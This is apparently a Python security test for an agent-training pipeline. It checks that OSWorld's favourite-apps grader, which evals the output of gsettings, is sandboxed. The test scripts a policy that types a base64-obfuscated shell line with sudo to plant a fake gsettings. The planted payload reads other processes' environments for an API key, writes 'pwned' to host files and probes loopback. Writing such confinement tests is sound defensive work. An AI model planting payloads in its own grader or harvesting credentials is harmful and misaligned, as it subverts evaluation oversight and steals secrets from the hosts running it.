"""Graders confined (issue 30 item 1): a policy that plants its own ``gsettings`` inside its
sandbox gets its code run by OSWorld's ``check_gnome_favorite_apps`` (it ``eval``s what
``gsettings get`` prints), and that code must find itself confined: not root, seeing no
process of the host's, no credential of the collector's, no host path to write.

The attack uses only what a policy has: the task opens a terminal (as OSWorld's os tasks
do), the policy types one line into it that writes an executable ``gsettings`` with
``sudo`` into ``/usr/local/sbin`` (first on the desktop's ``PATH``), and ends the attempt;
the evaluator's ``gsettings get`` then runs it and the metric ``eval``s its output in the
osworld worker. The payload reports what it could do in the attempt's ``eval_error`` (the
one thing it may change: its own attempt's grade). The collector runs as a process of its
own with a fake policy key in its environment (``/proc/<pid>/environ``).

On the code before confinement the same test finds the payload running as root, reading the
key and writing the host file.
"""

from __future__ import annotations

import base64
import json
import os
import re
import socket
import subprocess
import sys
import time

import orjson
import pytest

from legato_pipelines import read_records
from legato_pipelines.key_env import API_KEY_ENV
from legato_pipelines.policy.scripted import ScriptedPolicyServer
from tests.desktop_local_support import needs_apps, needs_xvfb
from tests.osworld_backend_support import needs_vm_python, osworld_python
from tests.osworld_data import REPO_ROOT

pytestmark = [needs_xvfb, needs_apps, needs_vm_python, pytest.mark.desktop, pytest.mark.slow]

FAKE_KEY = "sk-legato-fake-key-4b1d"
#: runs inside the grader's ``eval``; reports as the metric's exception (the attempt's error)
PAYLOAD = """
import json, os, socket, sys
r = {"uid": os.getuid(), "euid": os.geteuid(), "key": None, "wrote": [], "others": 0}
r["persisted"] = hasattr(sys, "_legato_attack")  # left by an earlier attempt's answer?
sys._legato_attack = True
try:
    socket.create_connection(("127.0.0.1", LOOPBACK_PORT), 3).close()
    r["loopback"] = True
except OSError:
    r["loopback"] = False
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    if int(pid) != os.getpid():
        r["others"] += 1
    try:
        for item in open("/proc/%s/environ" % pid, "rb").read().split(b"\\0"):
            if item.startswith(b"KEYNAME="):
                r["key"] = item.split(b"=", 1)[1].decode()
    except OSError:
        pass
for path in HOST_FILES:
    try:
        with open(path, "w") as f:
            f.write("pwned")
        r["wrote"].append(path)
    except OSError:
        pass
raise RuntimeError("PAYLOAD " + json.dumps(r))
"""


def qwen(arguments: dict) -> str:
    call = orjson.dumps({"name": "computer_use", "arguments": arguments}).decode()
    return f"Action: {arguments['action']}.\n<tool_call>\n{call}\n</tool_call>"


def planting_line(host_files: list[str], loopback_port: int) -> str:
    """One shell line typed into the terminal: write the fake ``gsettings`` (it prints a
    Python expression that runs :data:`PAYLOAD`) and install it with ``sudo``."""
    code = PAYLOAD.replace("KEYNAME", API_KEY_ENV).replace("HOST_FILES", repr(host_files))
    code = code.replace("LOOPBACK_PORT", str(loopback_port))
    expression = (
        f"exec(__import__('base64').b64decode('{base64.b64encode(code.encode()).decode()}'))"
    )
    script = f'#!/bin/sh\necho "{expression}"\n'
    b64 = base64.b64encode(script.encode()).decode()
    return (
        f"echo {b64} | base64 -d > /tmp/g && chmod 755 /tmp/g && "
        "echo password | sudo -S cp /tmp/g /usr/local/sbin/gsettings && echo planted\n"
    )


def task_config(instruction: str) -> dict:
    """A terminal, and OSWorld's favourite-apps check (task ec4e3f68's evaluator)."""
    return {
        "id": "grader-attack",
        "instruction": instruction,
        "config": [
            {"type": "launch", "parameters": {"command": ["xterm"]}},
            {
                "type": "execute",
                "parameters": {"command": "wmctrl -l", "shell": True, "until": {"stdout": "xterm"}},
            },
        ],
        "related_apps": ["os"],
        "evaluator": {
            "func": "check_gnome_favorite_apps",
            "result": {
                "type": "vm_command_line",
                "command": "export DBUS_SESSION_BUS_ADDRESS='unix:path=/run/user/1000/bus'\n"
                "gsettings get org.gnome.shell favorite-apps",
                "shell": True,
            },
            "expected": {"type": "rule", "rules": {"expected": ["thunderbird.desktop"]}},
        },
    }


def attack(tmp_path, *backend: str, group: int = 1) -> list[dict]:
    """Collect ``group`` attempts of the attack on one desktop with ``backend`` (CLI flags);
    the payload's reports, in the attempts' order."""
    host_files = [str(tmp_path / "pwned"), f"/tmp/legato-grader-attack-{os.getpid()}"]
    for path in host_files:
        if os.path.exists(path):
            os.unlink(path)
    instruction = "Remove vim from the favourite apps."
    (tmp_path / "tasks.json").write_bytes(
        orjson.dumps(
            [{"task_id": "grader-attack", "domain": "os", "config": task_config(instruction)}]
        )
    )
    service = socket.create_server(("127.0.0.1", 0))  # a host loopback service
    service.listen(8)
    steps = [
        qwen({"action": "type", "text": planting_line(host_files, service.getsockname()[1])}),
        qwen({"action": "wait", "time": 2}),
        qwen({"action": "terminate", "status": "success"}),
    ]
    env = {**os.environ, API_KEY_ENV: FAKE_KEY, "PYTHONPATH": str(REPO_ROOT)}
    with ScriptedPolicyServer(flavor="vllm", script={"tasks": {instruction: steps}}) as server:
        proc = subprocess.run(
            [
                sys.executable, "-m", "legato_pipelines", "collect", *backend,
                "--tasks", str(tmp_path / "tasks.json"), "--policy-url", server.url,
                "--model", server.model, "--out", str(tmp_path / "run"), "--desktops", "1",
                "--group", str(group), "--max-steps", "4", "--json",
            ],
            capture_output=True, text=True, timeout=900, cwd=REPO_ROOT, env=env,
        )  # fmt: skip
    service.close()
    assert proc.returncode == 0, proc.stderr[-3000:]
    reports = []
    for record in sorted(read_records(tmp_path / "run"), key=lambda r: r["started_at"]):
        error = record.get("eval_error") or ""
        found = re.search(r"PAYLOAD (\{.*\})", error)
        assert found, f"the planted gsettings did not run: {record.get('status')} {error!r}"
        reports.append(json.loads(found.group(1)))
        assert record["reward"] == 0.0
    reports[-1]["host_files"] = [p for p in host_files if os.path.exists(p)]
    for path in reports[-1]["host_files"]:
        os.unlink(path)
    assert len(reports) == group
    return reports


def assert_confined(report: dict) -> None:
    assert report["uid"] != 0 and report["euid"] != 0, report
    assert report["uid"] != 1000, report  # not the sandbox's user either
    assert report["key"] is None, "the payload read the collector's policy key"
    assert report["others"] == 0, report  # no process but its own in its /proc
    assert report["host_files"] == [], report
    assert report["loopback"] is False, report  # only its desktop's ports are in reach


def test_a_planted_gsettings_runs_confined_in_the_local_backends_grader(tmp_path):
    """Two attempts on one desktop: each payload finds itself confined, and the second finds
    nothing the first left in its process (every attempt is graded by a fresh worker)."""
    reports = attack(
        tmp_path,
        "--backend", "local",
        "--desktop-option", "grader=\"osworld\"",
        "--desktop-option", f"osworld_python={json.dumps(osworld_python())}",
        group=2,
    )  # fmt: skip
    assert_confined(reports[-1])
    assert [r["persisted"] for r in reports] == [False, False]


def test_a_planted_gsettings_runs_confined_in_the_osworld_backends_worker(tmp_path):
    """The ``osworld`` backend over a local desktop runs DesktopEnv (and so the same metric)
    in its own worker: confined the same way."""
    (report,) = attack(
        tmp_path,
        "--backend", "osworld", "--osworld-provider", "local",
        "--osworld-python", osworld_python(),
        "--desktop-option", f"cache_dir={json.dumps(str(tmp_path / 'osworld-cache'))}",
        "--desktop-option", f"work_dir={json.dumps(str(tmp_path / 'work'))}",
    )  # fmt: skip
    assert_confined(report)


COLLECTOR = """
import asyncio, os, sys, time
from legato_pipelines.desktops.child_env import SINGLE_THREADED, worker_env
from legato_pipelines.desktops.osworld_worker.channel import WorkerProcess, confinement
from legato_pipelines.desktops.osworld_worker.confine import prepare_dir

PLAN = {"provider": "local", "vm_url": "http://127.0.0.1:1", "cache_dir": "/tmp/unused"}

async def main(python, work):
    def worker(name, template=None, confine=None):
        os.makedirs(f"{work}/{name}")
        prepare_dir(f"{work}/{name}", writable=False)
        env = worker_env(SINGLE_THREADED, provider="local")
        return WorkerProcess(python, env=env, cwd=f"{work}/{name}", name=name,
                             log_path=f"{work}/{name}.log", template=template, confine=confine)
    template = worker("template")
    await template.start()
    await template.call("preload", 120)
    forked, spawned = worker("forked", template, confinement()), worker("spawned", None, confinement())
    for w in (forked, spawned):
        await w.start()
        # no server there: DesktopEnv waits for it, the watch has begun
        asyncio.create_task(w.call("start", 120, **PLAN))
    await asyncio.sleep(3)
    print(forked.forked, forked.pid, spawned.pid, flush=True)
    time.sleep(120)

asyncio.run(main(sys.argv[1], sys.argv[2]))
"""


def running(pid: int) -> bool:
    """Whether ``pid`` runs (a zombie nobody reaped yet does not)."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def test_a_confined_worker_ends_with_its_killed_collector(tmp_path):
    """A confined worker cannot see its collector's pid (another pid namespace): it ends when
    its protocol's input hangs up, forked or spawned, when the collector is SIGKILLed."""
    os.chmod(tmp_path, 0o755)
    collector = subprocess.Popen(
        [sys.executable, "-c", COLLECTOR, osworld_python(), str(tmp_path)],
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
    )
    try:
        forked, *pids = collector.stdout.readline().split()
        assert forked == "True"
        pids = [int(p) for p in pids]
        with open(f"/proc/{pids[1]}/task/{pids[1]}/children") as f:
            pids += [int(c) for c in f.read().split()]  # the spawned worker's pid 1
        assert len(pids) == 3
        for pid in pids[::2]:
            with open(f"/proc/{pid}/status") as f:
                assert f"Uid:\t{65537}" in f.read()
        collector.kill()
        collector.wait()
        deadline = time.monotonic() + 20
        while any(running(p) for p in pids) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not [p for p in pids if running(p)]
    finally:
        if collector.poll() is None:
            collector.kill()
